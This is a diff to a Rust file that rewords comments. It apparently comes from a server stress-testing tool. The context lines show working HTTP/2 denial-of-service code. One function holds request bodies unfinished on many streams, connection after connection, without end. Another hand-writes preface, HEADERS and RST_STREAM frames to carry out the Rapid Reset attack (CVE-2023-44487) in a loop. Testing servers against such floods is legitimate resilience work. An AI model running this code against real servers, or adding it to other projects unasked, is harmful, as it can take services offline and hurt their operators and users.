@@ -1,4 +1,4 @@
-//! Streams of HTTP/2, many on a connection.
+//! HTTP/2 streams, many on one connection.
 
 use std::future::poll_fn;
 use std::net::{IpAddr, SocketAddr};
@@ -13,9 +13,9 @@ use tokio::task::JoinSet;
 
 use crate::client::connect;
 
-/// A part of a body.
+/// Part of a body that is sent at once.
 const PART: &[u8] = &[b' '; 16 << 10];
-/// Between a round on a connection and the next: what is measured is the server, not who makes more streams a second.
+/// Pause between two rounds on a connection: the server is measured, not how fast an attacker creates streams.
 const PAUSE: Duration = Duration::from_secs(1);
 /// How long a body is left unfinished.
 const HELD_MAX: Duration = Duration::from_mins(1);
@@ -23,11 +23,11 @@ const HELD_MAX: Duration = Duration::from_mins(1);
 /// A request that is sent on many streams.
 #[derive(Clone, Copy, Debug)]
 pub struct Asked<'a> {
-    /// Its path.
+    /// Request target.
     pub path: &'a str,
-    /// Its token; none when empty.
+    /// Bearer token; none if empty.
     pub token: &'a str,
-    /// Bytes of its body, all of which but the last are sent.
+    /// Announced length of its body, bytes; all but the last one are sent.
     pub bytes: usize,
 }
 
@@ -45,10 +45,10 @@ impl Asked<'_> {
     }
 }
 
-/// Leaves so many bodies unfinished on each of one connection after another.
+/// Leaves bodies unfinished on `streams` streams of a connection, then of the next, forever.
 pub async fn unfinished(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) {
     loop {
-        // However it ends, the next one comes.
+        // However it ends, the next one follows.
         let _ = tokio::time::timeout(HELD_MAX, round(to, from, asked, streams)).await;
         tokio::time::sleep(PAUSE).await;
     }
@@ -64,7 +64,7 @@ async fn round(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) -
             let fed = feed(body, asked.bytes - 1);
             tokio::pin!(fed);
             tokio::select! {
-                // An answer before the body is whole is the end of it.
+                // An answer to an unfinished body ends the stream.
                 answered = answer => drop(answered),
                 () = &mut fed => {}
             }
@@ -77,7 +77,7 @@ async fn round(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) -
     Ok(())
 }
 
-/// A connection, with what drives it.
+/// Opens a connection; the tasks drive it until they are dropped.
 async fn begin(to: SocketAddr, from: IpAddr) -> Result<(SendRequest<Bytes>, JoinSet<()>), String> {
     let stream = connect(to, from).await.map_err(|error| error.to_string())?;
     let (sender, connection) = h2::client::handshake(stream).await.map_err(|error| error.to_string())?;
@@ -86,7 +86,7 @@ async fn begin(to: SocketAddr, from: IpAddr) -> Result<(SendRequest<Bytes>, Join
     Ok((sender, tasks))
 }
 
-/// Sends so many bytes as the windows open, and then nothing.
+/// Sends `bytes` bytes as the flow-control window allows, then waits for a reset.
 async fn feed(mut body: SendStream<Bytes>, bytes: usize) {
     let mut left = bytes;
     while left > 0 {
@@ -98,25 +98,25 @@ async fn feed(mut body: SendStream<Bytes>, bytes: usize) {
         }
         left -= part;
     }
-    // It is given up by a reset.
+    // The stream is held until the server resets it.
     let _ = poll_fn(|cx| body.poll_reset(cx)).await;
 }
 
 /// The beginning of an HTTP/2 connection (RFC 9113): the preface and empty settings.
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
-/// A request in HPACK: `GET http /user/me`, the host `x`.
+/// A request in HPACK: `GET http /user/me`, host `x`.
 const REQUEST: &[u8] = b"\x82\x86\x04\x08/user/me\x01\x01x";
-/// Streams that a connection opens and resets in one breath.
+/// Streams that a connection opens and resets in one write.
 const RESETS: u32 = 200;
-/// How long such a connection is listened to.
+/// How long such a connection is read from.
 const HEARD_MAX: Duration = Duration::from_millis(50);
 
-/// Opens streams and resets each at once (CVE-2023-44487), on one connection after another. By hand: a library would
-/// not send what it takes back.
+/// Opens streams and resets each at once (CVE-2023-44487), on one connection after another. The frames are written by
+/// hand, because a library would not send what is cancelled before it is written.
 pub async fn rapid_resets(to: SocketAddr, from: IpAddr) {
     let bytes = (0..RESETS).fold(PREFACE.to_vec(), |mut bytes, number| {
         let stream = (2 * number + 1).to_be_bytes();
-        // Length, type, flags and stream of a frame: HEADERS, whole and the last of its stream; RST_STREAM, CANCEL.
+        // Length, type, flags and stream of a frame: HEADERS with END_HEADERS and END_STREAM; RST_STREAM with CANCEL.
         bytes.extend([[0, 0, 15, 1, 5].as_slice(), &stream, REQUEST].concat());
         bytes.extend([[0, 0, 4, 3, 0].as_slice(), &stream, &[0, 0, 0, 8]].concat());
         bytes
@@ -126,7 +126,7 @@ pub async fn rapid_resets(to: SocketAddr, from: IpAddr) {
             && stream.write_all(&bytes).await.is_ok()
         {
             let ended = async { while stream.read(&mut [0; 4_096]).await.is_ok_and(|count| count > 0) {} };
-            // However it ends, the next one comes.
+            // However it ends, the next one follows.
             let _ = tokio::time::timeout(HEARD_MAX, ended).await;
         }
         tokio::time::sleep(HEARD_MAX).await;
